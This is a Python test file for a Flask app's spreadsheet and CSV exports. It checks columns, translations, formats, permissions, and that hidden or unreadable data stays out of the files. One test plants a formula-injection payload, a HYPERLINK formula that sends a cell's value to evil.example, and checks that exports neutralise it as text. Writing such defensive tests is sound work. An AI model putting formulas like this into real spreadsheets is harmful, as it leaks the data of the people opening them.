"""List and report exports to .xlsx and CSV: what the list shows, every page, never a hidden field."""
from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime
from decimal import Decimal

from flask import Flask
from openpyxl import load_workbook

from engine import tenancy
from engine.runtime import Formwork
from tests.excel.conftest import add_orders, fetch, sheet_rows, supplier_ids, visitor


def orders(count: int) -> list[dict[str, object]]:
    return [{"number": f"PO-{n:03d}", "ordered_on": f"2024-05-{1 + n % 28:02d}",
             "kind": "service" if n % 2 else "goods",
             "amount": f"{1000 + n}.50", "qty": n, "secret_price": "9.99", "deliver_at": "2024-05-01T08:30:00+08:00",
             "flags": ["urgent"], "buyer": "viewer"} for n in range(1, count + 1)]


def test_export_xlsx_holds_every_matching_record_in_the_lists_columns_and_order(app: Flask, engine: Formwork,
                                                                                  shop: str) -> None:
    add_orders(engine, shop, orders(30))
    clerk = visitor(app, shop, "clerk")
    response = fetch(clerk, "/m/sheetshop/order/export.xlsx?f=kind&op=eq&v=Service&sort=-amount")
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert "attachment;" in response.headers["Content-Disposition"]
    book = load_workbook(io.BytesIO(response.data))
    sheet = book.active
    assert sheet["A1"].value == "Order" and sheet["A1"].font.bold             # the title, when, which filters
    assert sheet["A2"].value == "Filters: Kind equals Service" and sheet["A3"].value.startswith("Exported ")
    assert sheet.freeze_panes == "A6" and sheet["A5"].font.bold               # the header row, frozen
    rows = [list(r) for r in sheet.iter_rows(min_row=5, values_only=True)]
    assert rows[0] == ["Order number", "Supplier", "Ordered on", "Kind", "Amount", "Floor price"]
    assert len(rows) == 1 + 15                                  # all 15 service orders, not one page of 25
    assert [r[0] for r in rows[1:4]] == ["PO-029", "PO-027", "PO-025"]
    assert rows[1][1] == "Acme 建材" and rows[1][3] == "Service"
    assert rows[1][4] == Decimal("1029.5") or rows[1][4] == 1029.5
    assert isinstance(rows[1][2], datetime) and rows[1][2].date() == date(2024, 5, 2)
    assert sheet["E6"].number_format == "#,##0.00" and sheet["C6"].number_format == "yyyy-mm-dd"
    assert sheet.column_dimensions["A"].width >= 8


def test_export_uses_the_chosen_columns_and_the_users_language(app: Flask, engine: Formwork, shop: str) -> None:
    add_orders(engine, shop, orders(2))
    clerk = visitor(app, shop, "clerk", language="zh")
    content = fetch(clerk, "/m/sheetshop/order/export.xlsx?cols=number,deliver_at,flags,buyer,qty,total").data
    rows = sheet_rows(content)
    assert rows[0] == ["订单号", "送货时间", "标记", "采购员", "数量", "总额"]
    assert rows[1][:4] == ["PO-001", datetime(2024, 5, 1, 8, 30), "加急", "Vera Viewer"]
    assert rows[2][4] == 2 and Decimal(str(rows[2][5])) == Decimal("2005.00")


def test_a_hidden_field_is_never_exported_even_when_asked_for(app: Flask, engine: Formwork, shop: str) -> None:
    add_orders(engine, shop, orders(3))
    viewer = visitor(app, shop, "viewer")
    header = sheet_rows(fetch(viewer, "/m/sheetshop/order/export.xlsx").data)[0]
    assert "Floor price" not in header and header[0] == "Order number"
    asked = fetch(viewer, "/m/sheetshop/order/export.csv?cols=number,secret_price")
    assert "Floor price" not in asked.get_data(as_text=True) and "9.99" not in asked.get_data(as_text=True)


def test_csv_export_starts_with_a_byte_order_mark_for_excel(app: Flask, engine: Formwork, shop: str) -> None:
    add_orders(engine, shop, orders(2))
    clerk = visitor(app, shop, "clerk", language="zh")
    response = fetch(clerk, "/m/sheetshop/order/export.csv?sort=number")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.data.startswith(b"\xef\xbb\xbf")
    lines = response.data.decode("utf-8-sig").splitlines()
    assert lines[0] == "订单号,供应商,下单日期,类型,金额,底价"
    assert lines[1] == "PO-001,Acme 建材,2024-05-02,服务,1001.50,9.99"


def test_export_needs_the_export_right_and_the_list_offers_it_only_then(app: Flask, engine: Formwork,
                                                                         shop: str) -> None:
    add_orders(engine, shop, orders(1))
    reader = visitor(app, shop, "reader")
    assert fetch(reader, "/m/sheetshop/order/export.xlsx").status_code == 403
    assert "export.xlsx" not in reader.text("/m/sheetshop/order")
    clerk = visitor(app, shop, "clerk")
    html = clerk.text("/m/sheetshop/order?sort=-amount&page=1")
    assert "/m/sheetshop/order/export.xlsx?sort=-amount" in html and "export.csv?sort=-amount" in html


def test_without_the_excel_pages_the_list_offers_neither_export_nor_import(app: Flask, engine: Formwork,
                                                                          shop: str) -> None:
    add_orders(engine, shop, orders(1))
    clerk = visitor(app, shop, "clerk")
    html = clerk.text("/m/sheetshop/order")
    assert "/m/sheetshop/order/export.xlsx" in html and "/m/sheetshop/order/import" in html
    for endpoint in ("pages.export_list", "pages.import_upload"):   # as where the Excel plugin is not installed
        del app.view_functions[endpoint]
    html = clerk.text("/m/sheetshop/order")
    assert "/m/sheetshop/order/export.xlsx" not in html and "/m/sheetshop/order/import" not in html


def test_a_bad_filter_is_a_clear_400_not_a_file(app: Flask, shop: str) -> None:
    clerk = visitor(app, shop, "clerk")
    response = fetch(clerk, "/m/sheetshop/order/export.xlsx?q=amount%20%3E%3E%201")
    assert response.status_code == 400
    assert "text/html" in response.content_type and "Traceback" not in response.get_data(as_text=True)


def test_report_export_has_the_reports_columns_and_rows(app: Flask, engine: Formwork, shop: str) -> None:
    add_orders(engine, shop, orders(4))
    clerk = visitor(app, shop, "clerk")
    response = fetch(clerk, "/reports/sheetshop/by_kind/export.xlsx")
    assert response.status_code == 200
    rows = sheet_rows(response.data)
    assert rows[0] == ["Kind", "Orders", "Amount"]                # columns by their (default) labels
    assert [r[0] for r in rows[1:]] == ["Goods", "Service", "Total"]       # options by label, then the total row
    assert rows[1][1] == 2 and Decimal(str(rows[1][2])) == Decimal("2007.00")
    assert rows[3][1] == 4 and Decimal(str(rows[3][2])) == Decimal("4012.00")
    text = fetch(clerk, "/reports/sheetshop/by_kind/export.csv").data
    assert text.startswith(b"\xef\xbb\xbf")
    assert text.decode("utf-8-sig").splitlines() == ["Kind,Orders,Amount", "Goods,2,2007.00", "Service,2,2005.00",
                                                     "Total,4,4012.00"]
    assert fetch(visitor(app, shop, "reader"), "/reports/sheetshop/by_kind/export.xlsx").status_code == 403
    assert fetch(clerk, "/reports/sheetshop/nothing/export.xlsx").status_code == 404


def test_exports_write_formula_like_text_as_text_and_negative_amounts_as_numbers(app: Flask, engine: Formwork,
                                                                                 shop: str) -> None:
    attack = '=HYPERLINK("https://evil.example/?"&E2,"点我")'
    add_orders(engine, shop, [{"number": "@SUM(1)", "ordered_on": "2024-05-01", "secret_price": "-12.50"},
                              {"number": "-2+3", "ordered_on": "2024-05-02", "secret_price": "3"}])
    supplier = supplier_ids(engine, shop)["Acme 建材"]
    with engine.records(tenancy.Actor(shop, "boss", frozenset({"admin"}))) as records:
        records.update("sheetshop", "supplier", supplier, {"name": attack}, version=1)
    clerk = visitor(app, shop, "clerk")
    content = fetch(clerk, "/m/sheetshop/order/export.xlsx?cols=number,supplier,secret_price&sort=ordered_on").data
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
    sheet = load_workbook(io.BytesIO(content)).active
    assert [(c.value, c.data_type) for c in sheet[6]] == [("@SUM(1)", "s"), (attack, "s"), (-12.5, "n")]
    assert [(c.value, c.data_type) for c in sheet[7]] == [("-2+3", "s"), (attack, "s"), (3, "n")]
    text = fetch(clerk, "/m/sheetshop/order/export.csv?cols=number,supplier,secret_price&sort=ordered_on").data
    lines = list(csv.reader(io.StringIO(text.decode("utf-8-sig"), newline="")))
    assert lines[1:] == [["'@SUM(1)", "'" + attack, "-12.50"], ["'-2+3", "'" + attack, "3.00"]]


def test_a_record_the_reader_may_not_read_is_never_named_nor_shown_by_its_id(app: Flask, engine: Formwork,
                                                                             shop: str) -> None:
    """The auditor reads and exports orders, but not suppliers (tests/excel/fixtures/sheetshop)."""
    add_orders(engine, shop, orders(2))
    auditor = visitor(app, shop, "auditor", language="zh")
    content = fetch(auditor, "/m/sheetshop/order/export.xlsx?cols=number,supplier,kind,buyer").data
    rows = sheet_rows(content)
    assert rows[0] == ["订单号", "供应商", "类型", "采购员"]
    assert rows[1] == ["PO-001", "无权查看", "服务", "Vera Viewer"]
    supplier = supplier_ids(engine, shop)["Acme 建材"]
    text = fetch(auditor, "/m/sheetshop/order/export.csv?cols=number,supplier").data.decode("utf-8-sig")
    assert "Acme" not in text and supplier not in text
    book = load_workbook(io.BytesIO(content))
    assert not any(supplier in str(c.value) or "Acme" in str(c.value) for row in book.active.iter_rows()
                   for c in row if c.value is not None)
